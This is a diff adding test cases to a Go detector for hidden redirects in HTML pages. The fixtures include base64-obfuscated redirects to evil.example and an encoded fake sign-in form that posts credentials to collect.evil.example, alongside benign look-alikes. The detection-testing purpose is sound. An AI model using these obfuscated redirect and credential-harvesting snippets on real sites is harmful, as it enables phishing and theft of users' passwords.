@@ -106,6 +106,27 @@ func TestHiddenRedirect(t *testing.T) {
 		{"an inlined worker", `<script>var code='c2VsZi5vbm1lc3NhZ2U9ZnVuY3Rpb24oZSl7cG9zdE1lc3NhZ2UoZS5kYXRhKjIpfQ==';var w=new Worker(URL.createObjectURL(new Blob([atob(code)],{type:'text/javascript'})));w.postMessage(2)</script>`, false},
 		{"an inlined worker through a name", `<script>var b=new Blob([atob(code)],{type:'text/javascript'});var u=URL.createObjectURL(b);var w=new Worker(u)</script>`, false},
 		{"a decoded blob's address opened", `<script>var b=new Blob([atob(code)],{type:'text/html'});var u=URL.createObjectURL(b);window.open(u)</script>`, true},
+		{"a decoded address in an object's field", `<script>var cfg = {
+  delay: 0,
+  target: atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=")
+};
+setTimeout(function(){ window.location.replace(cfg.target) }, cfg.delay);</script>`, true},
+		{"a decoded address destructured", `<script>const {url}=JSON.parse(atob(cfg));location.href=url</script>`, true},
+		{"a decoded address destructured from an array", `<script>const [a,b]=atob(x).split('|');window.location=b</script>`, true},
+		{"a decoded address in a property", `<script>var c={};c.dest=atob(x);location.href=c.dest</script>`, true},
+		{"a decoded address in a global", `<script>window.dest=atob(x);location.href=dest</script>`, true},
+		{"an element of an array, not a pattern", `<script>a[i]=atob(t);location.href=cfg.u</script>`, false},
+		{"a decoded address given to a function", `<script>function go(t){window.location.href=t}go(atob(x))</script>`, true},
+		{"a decoded address given to an arrow function", `<script>const go=(t)=>{location.href=t};go(atob(x))</script>`, true},
+		{"a function given a configured address", `<script>function go(t){window.location.href=t}var c=JSON.parse(atob(k));go(cfg.loginUrl)</script>`, false},
+		{"a callback of a fetch of a decoded address", `<script>fetch(atob(x)).then(r=>r.json()).then(d=>{window.location.href=d.url})</script>`, true},
+		{"a callback of a fetch of a decoded address, functions", `<script>fetch(atob(x)).then(function(r){return r.text()}).then(function(t){location.replace(t)})</script>`, true},
+		{"a callback of a configured fetch beside a decoded token", `<script>var c=JSON.parse(atob(t));fetch(cfg.api).then(r=>r.json()).then(d=>{location.href=d.url})</script>`, false},
+		{"a sign-in page written from a name", `<script>var p='PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PC9mb3JtPjwvYm9keT48L2h0bWw+';document.write(atob(p))</script>`, true},
+		{"a sign-in page written from a literal", `<script>document.write(atob("PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PC9mb3JtPjwvYm9keT48L2h0bWw+"))</script>`, true},
+		{"a redirect written from joined pieces", `<script>var p=['PG1ldGEgaHR0cC1lcXVp','dj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4='].join('');document.write(atob(p))</script>`, true},
+		{"a redirect written from a hidden element", `<div id="d" hidden>PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=</div><script>document.write(atob(document.getElementById('d').textContent))</script>`, true},
+		{"an envelope viewer writing a message from an element", `<div id="msg" hidden>PGgxPlNlY3VyZSBtZXNzYWdlPC9oMT48cD5IZWxsbzwvcD4=</div><script>document.write(decodeURIComponent(escape(atob(document.getElementById('msg').textContent))))</script>`, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			if got := hiddenRedirect([]byte(tc.page)); got != tc.hidden {
@@ -167,6 +188,12 @@ func TestHiddenRedirectLinear(t *testing.T) {
 		"new Worker(URL.createObjectURL(b));var u=URL.createObjectURL(c);",
 		"var d=atob(k);var u=d.x;location.href=cfg.u;",
 		"w=window['ev'+'al'];f=function;",
+		"var c={u:atob(k)};const {a,b}=atob(k);[x,y]=z;c.d=atob(k);location.href=c.d;",
+		"function go(t){location.href=t}go(atob(k));go(",
+		"fetch(atob(x)).then(r=>r.json()).then(d=>{location.href=d.u});",
+		"(((((((((function(a,b,c){location.href=a}",
+		"document.write(atob(document.getElementById('d').textContent));<i id=d>",
+		"var p=['QUFB','QUFB'].join('');document.write(atob(p));",
 	} {
 		small := []byte("<script>" + strings.Repeat(unit, 2000) + "</script>")
 		big := []byte("<script>" + strings.Repeat(unit, 8000) + "</script>")
